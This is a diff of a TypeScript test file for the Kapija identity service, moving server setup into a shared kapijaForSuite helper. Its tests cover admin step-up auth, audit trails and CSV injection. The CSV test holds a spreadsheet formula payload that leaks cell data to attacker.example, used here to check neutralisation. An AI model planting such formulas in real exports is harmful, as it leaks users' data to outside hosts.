@@ -11,7 +11,7 @@ import * as oidc from 'openid-client';
 import { Agent } from '../support/browserless.js';
 import { signIn } from '../support/sign-in.js';
 import { createTestDatabase, stores } from '../support/databases.js';
-import { createTestAccount, createTestClient, startKapija, testService, TEST_ENV, type RunningKapija } from '../support/kapija.js';
+import { createTestAccount, createTestClient, kapijaForSuite, testService, TEST_ENV } from '../support/kapija.js';
 import { createRoleRepository } from '../../src/store/roles.js';
 import { isPostgres } from '../../src/store/db.js';
 import { ledgerEntries } from '../../src/account/ledger.js';
@@ -38,13 +38,7 @@ async function adminOf(kapija: Kapija) {
 }
 
 describe('the admin API at the console’s level (ADMIN_MIN_ACR high)', () => {
-  let server: RunningKapija;
-  beforeAll(async () => {
-    server = await startKapija();
-  });
-  afterAll(async () => {
-    await server?.stop();
-  });
+  const server = kapijaForSuite();
   const api = () => request(server.kapija.app.callback());
 
   test('NIST 800-63B 4.3 (AAL3) / RFC 9470 §3: a kapija:admin token from a password + TOTP sign-in is refused with a step-up challenge', async () => {
@@ -108,13 +102,7 @@ async function refuseAuditEntries(kapija: Kapija, action: string): Promise<() =>
 }
 
 describe('administrators’ reads in the trail', () => {
-  let server: RunningKapija;
-  beforeAll(async () => {
-    server = await startKapija();
-  });
-  afterAll(async () => {
-    await server?.stop();
-  });
+  const server = kapijaForSuite();
 
   test('OWASP ASVS 5.0 V16.2.1 / GDPR Art. 15: a citizen search, a citizen’s session list and a read of their ledger through the audit API are recorded, and show in their ledger', async () => {
     const { kapija } = server;
@@ -139,16 +127,12 @@ describe('administrators’ reads in the trail', () => {
 });
 
 describe.each(stores())('audited changes and releases on %s', (store) => {
-  let server: RunningKapija;
   let token: string;
+  const server = kapijaForSuite({ store, env: { TRUST_PROXY: 'true' } });
   beforeAll(async () => {
-    server = await startKapija({ store, env: { TRUST_PROXY: 'true' } });
     const admin = await adminOf(server.kapija);
     const script = await createTestClient(server.kapija, { scope: 'openid kapija:admin' });
     token = await mint(server.kapija, admin.account.id, script.clientId);
-  });
-  afterAll(async () => {
-    await server?.stop();
   });
   const api = () => request(server.kapija.app.callback());
   const adminTrail = (subject: string) => server.kapija.audit.list({ chain: 'admin', subject });
@@ -214,13 +198,7 @@ describe.each(stores())('audited changes and releases on %s', (store) => {
 });
 
 describe('Kapija’s own clients', () => {
-  let server: RunningKapija;
-  beforeAll(async () => {
-    server = await startKapija();
-  });
-  afterAll(async () => {
-    await server?.stop();
-  });
+  const server = kapijaForSuite();
 
   test('OWASP ASVS 5.0 V8.2.1 / RFC 7591 §2: the account portal’s own client (kapija-account) cannot be changed, disabled, re-keyed or deleted through the admin API', async () => {
     const { kapija } = server;
@@ -247,13 +225,7 @@ describe('Kapija’s own clients', () => {
 
 describe('CSV exports', () => {
   let clock = Date.now();
-  let server: RunningKapija;
-  beforeAll(async () => {
-    server = await startKapija({ env: { OPEN_DATA_MIN_COUNT: '1' }, options: { now: () => clock } });
-  });
-  afterAll(async () => {
-    await server?.stop();
-  });
+  const server = kapijaForSuite({ env: { OPEN_DATA_MIN_COUNT: '1' }, options: { now: () => clock } });
 
   test('OWASP CSV Injection / CWE-1236: a service name or id that a spreadsheet would run as a formula is neutralised in the citizen’s activity export and in open data', async () => {
     const formula = '=HYPERLINK("https://attacker.example/?leak="&A2,"open")';
